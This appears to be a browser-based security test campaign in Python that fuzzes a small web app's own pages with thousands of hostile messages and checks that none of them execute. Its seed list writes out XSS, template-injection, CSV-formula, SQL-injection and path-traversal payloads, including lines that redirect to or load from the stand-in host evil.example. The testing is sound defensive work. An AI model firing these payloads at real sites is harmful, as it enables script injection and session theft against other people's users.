"""S3: hostile words through the page and the panel, shown on every page that shows words, in real Chromium.

    python -m tests.campaigns.hostile_messages --full     10,000 messages

Every message goes through the question box and comes back on the conversation, on what is remembered, on the request
form and on a request's page. A dialog, a request to elsewhere, a changed global, a policy report or a page that fails
counts as a fault. The control shows the same words with escaping switched off, and must be caught. A short form runs in
`tests/journeys/test_hostile.py`.
"""

from __future__ import annotations

import random
import shutil
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import islice
from pathlib import Path
from typing import Any

from web_house import hidden
from web_states import World

CANARY = "window.__ran=1"
SEEDS = (
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "\"><script>{c}</script>",
    "'-{c}-'", "javascript:{c}", "<a href='javascript:{c}'>x</a>", "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<details open ontoggle={c}>", "<body onload={c}>", "<input autofocus onfocus={c}>", "</textarea><script>{c}</script>",
    "</title><script>{c}</script>", "<math><mi xlink:href='javascript:{c}'>", "<style>@import 'http://evil.example/'</style>",
    "<link rel=stylesheet href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>", "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "{{% raw %}}{{{{ {c} }}}}",
    "<form action=http://evil.example/><button>x", "<object data='data:text/html,<script>{c}</script>'>",
    "<template><script>{c}</script></template>", "&lt;script&gt;{c}&lt;/script&gt;", "\\u003cscript\\u003e{c}",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "\0<script>{c}</script>", "\u202e<script>{c}</script>\u202c",
    "\ufeff\u200b\u2066x\u2069", "\U000e0041\U000e0042", "\ud7ff\ue000\uffff", "a" * 1500, "\n" * 200, "ﷺ" * 300,
    "Z\u0335\u0321\u0322" * 200, "' OR 1=1 --", "../../etc/passwd", "%00%0d%0aSet-Cookie: x=1", "<!--", "]]>", "<![CDATA[",
    "--nonce--><script nonce=x>{c}</script>", "<x onclick={c} tabindex=1 style='position:fixed;inset:0'>",
)  # fmt: skip
PAGES = ("/", "/panel/", "/memory", "/person")


@dataclass
class Report:
    """What went wrong, in words; `sent` messages were shown `shown` times."""

    sent: int = 0
    shown: int = 0
    faults: list[str] = field(default_factory=list)


def messages(seed: int) -> Iterator[str]:
    """Hostile messages without end: the seeds, then mixtures of them with ordinary words and odd characters."""
    drawn = random.Random(seed)
    for one in SEEDS:
        yield one.format(c=CANARY)
    while True:
        parts = drawn.sample(SEEDS, drawn.randint(1, 3))
        words = drawn.choice(("how old for holiday club ", "my son ", "<", '"', "&", "", "🙂", "\u202e"))
        cut = drawn.randint(0, 40) if drawn.random() < 0.2 else 10_000
        yield (words + drawn.choice(("", " ", "\n")).join(parts).format(c=CANARY))[:cut] or "<"


def send_and_look(browser: Any, world: World, report: Report, batch: list[str]) -> None:
    """Ask each of `batch` in one browser's session, then look at every page that shows them."""
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (report.faults.append(f"dialog: {dialog.message[:60]}"), dialog.dismiss()))
    page.on("pageerror", lambda error: report.faults.append(f"page error: {str(error)[:120]}"))
    page.on(
        "console", lambda told: report.faults.append(f"console: {told.text[:200]}") if told.type == "error" else None
    )
    page.on("request", lambda asked: _of_ours(asked.url, world, report))
    for frame in ("", "/panel"):
        for text in batch:
            fields = {**hidden(_get(context, f"{world.address}{frame}/")), "question": text}
            _post(context, world, report, f"{frame}/", fields)
    token = hidden(_get(context, f"{world.address}/menu"))
    for text in batch[:3]:
        _post(
            context, world, report, f"{world.status}/add", {**token, "message_id": str(random.random()), "more": text}
        )
    for path in (*PAGES, world.status):
        page.goto(f"{world.address}{path}")
        report.shown += len(batch)
        if page.evaluate("typeof window.__ran") != "undefined":
            report.faults.append(f"a script ran on {path}")
    report.sent += 2 * len(batch)
    context.close()


def _get(context: Any, url: str) -> str:
    text: str = context.request.get(url, headers={"accept": "text/html"}).text()
    return text


def _post(context: Any, world: World, report: Report, path: str, fields: dict[str, str]) -> None:
    form = {name: value.encode("utf-8", "replace").decode() for name, value in fields.items()}
    headers = {"origin": world.address, "accept": "text/html"}
    answer = context.request.post(f"{world.address}{path}", form=form, headers=headers)
    if answer.status >= 500 or answer.status in (403, 404):
        report.faults.append(f"{path} answered {answer.status} to {fields.get('question', '')[:60]!r}")


def _of_ours(url: str, world: World, report: Report) -> None:
    if not url.startswith((world.address, "data:", "about:")):
        report.faults.append(f"asked for {url[:120]}")


def run(browser: Any, world: World, count: int, seed: int = 1, batch: int = 10) -> Report:
    """Send `count` messages and look at all of them."""
    report, stream = Report(), messages(seed)
    while report.sent < count:
        send_and_look(browser, world, report, list(islice(stream, batch)))
        if report.sent % 200 == 0:
            sys.stdout.write(f"\r{report.sent} sent, {len(report.faults)} faults ")
            sys.stdout.flush()
    return report


def main() -> None:
    """The campaign."""
    import importlib.util

    from playwright.sync_api import sync_playwright
    from real_server import served
    from web_states import little_app, world_of

    spec = importlib.util.spec_from_file_location("journeys", Path(__file__).parent.parent / "journeys" / "conftest.py")
    assert spec and spec.loader
    house = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(house)
    count = 10_000 if "--full" in sys.argv else 500
    begun = time.monotonic()
    with (
        tempfile.TemporaryDirectory() as folder,
        served(app := little_app(Path(folder))) as address,
        world_of(app, address) as world,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=house.FLAGS)
        report = run(browser, world, count)
    took = time.monotonic() - begun
    print(f"\n{report.sent} hostile messages, shown {report.shown} times: {len(report.faults)} faults in {took:.0f} s")
    for fault in report.faults[:20]:
        print(f"  {fault}")
    sys.exit(bool(report.faults))


if __name__ == "__main__":
    main()
